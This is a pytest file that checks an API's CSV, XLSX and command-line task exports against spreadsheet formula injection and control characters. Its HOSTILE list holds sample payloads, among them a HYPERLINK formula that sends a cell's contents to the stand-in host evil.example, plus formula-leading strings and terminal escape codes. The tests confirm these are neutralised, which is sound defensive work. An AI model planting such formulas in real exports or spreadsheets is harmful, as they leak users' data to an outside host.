"""Issue 11's probes over the HTTP API, each as a user would meet it: the
answer is a clear 4xx (413, 422, 401, 400, or 503 past the read budget) or
the right data, never a 500 and never an unbounded wait."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from store import store_document
from tests.api.factory import make_doc, task

# --- exports: formula injection and control characters -----------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+2开展活动",
    "-3+4开展活动",
    "@SUM(A1:A9)开展活动",
    "\t=1+1开展活动",
    "\r=1+1开展活动",
    "开展\x07铃声\x1b[31m活动",
]


@pytest.fixture
def hostile_tasks(db):
    doc = make_doc("evil.txt", "外来单位", [task(t, [3]) for t in HOSTILE])
    store_document(db, doc)


def test_csv_neutralises_formula_starts_and_drops_control_characters(client, hostile_tasks):
    r = client.get("/tasks.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    texts = [row[4] for row in rows[1:]]
    assert len(texts) == len(HOSTILE)
    for text in texts:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")" in texts
    assert "开展铃声[31m活动" in texts


def test_xlsx_writes_every_cell_as_text_and_answers_despite_control_characters(client, hostile_tasks):
    r = client.get("/tasks.xlsx")
    assert r.status_code == 200, r.text  # a \x07 in a task used to answer 500
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert not any(c.data_type == "f" for c in cells)
    texts = [row[4].value for row in ws.iter_rows(min_row=2)]
    assert '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' in texts  # shown as text, not run
    assert "开展铃声[31m活动" in texts


def test_cli_csv_neutralises_formula_starts_too(settings, hostile_tasks):
    from typer.testing import CliRunner

    from api.cli import app

    res = CliRunner().invoke(app, ["tasks", "--db", settings.db, "--format", "csv", "--limit", "0"])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert all(not row[4].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
    assert not any("\x07" in row[4] for row in rows[1:])
